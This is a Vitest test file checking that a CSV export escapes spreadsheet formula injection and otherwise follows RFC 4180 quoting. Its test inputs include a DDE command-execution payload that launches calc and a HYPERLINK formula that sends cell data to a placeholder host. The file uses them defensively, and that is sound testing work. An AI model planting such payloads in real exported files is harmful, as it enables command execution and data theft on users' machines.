import { csvCell, csvText, csvValue, readCsv } from '@sower/api/csv';
import { describe, expect, it } from 'vitest';

describe('CSV', () => {
  it('is harmless where semicolons or tabs separate, and is read as it was', () => {
    for (const value of ['x;=1+1', 'x;\t@SUM(A1)', 'a\t=1+1;-2', ';=1', 'a; b;c']) {
      const [cell = ''] = readCsv(csvText([[value, 'next']]))[0] ?? [];
      expect(
        cell.split(/[;\t]/).filter((part) => /^[\s]*[=+\-@]/.test(part)),
        value,
      ).toEqual([]);
      expect(csvValue(cell), value).toBe(value);
    }
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    '\t=1+1',
    '\r\n=1+1',
    ' =1+1',
    '\u00a0=1+1',
    '\ufeff=1+1',
    '\u200b@SUM(A1)',
    '\u0000=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    '−1',
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://x.example/?"&A1,"click")',
  ])('keeps %j from being a formula', (value) => {
    expect(csvCell(value).replace(/^"/, '')).toMatch(/^'/);
  });

  it.each(['000100000001', 'anna', 'a=b', 'a+b@example.com', '2037-12-31', '', '–'])(
    'leaves %j as it is',
    (value) => expect(csvCell(value)).toBe(value),
  );

  it('a cell with a comma and quotes does not open the next cell', () => {
    expect(csvCell('x",=1+1,"')).toBe('"x"",=1+1,"""');
  });

  it('quotes what RFC 4180 says, and nothing else', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('a\tb')).toBe('"a\tb"');
    expect(csvCell('say "x"')).toBe('"say ""x"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=a,"b"')).toBe(`"'=a,""b"""`);
  });

  it('ends every row', () => {
    expect(csvText([['a', 'b'], ['=c']])).toBe("a,b\r\n'=c\r\n");
  });
});
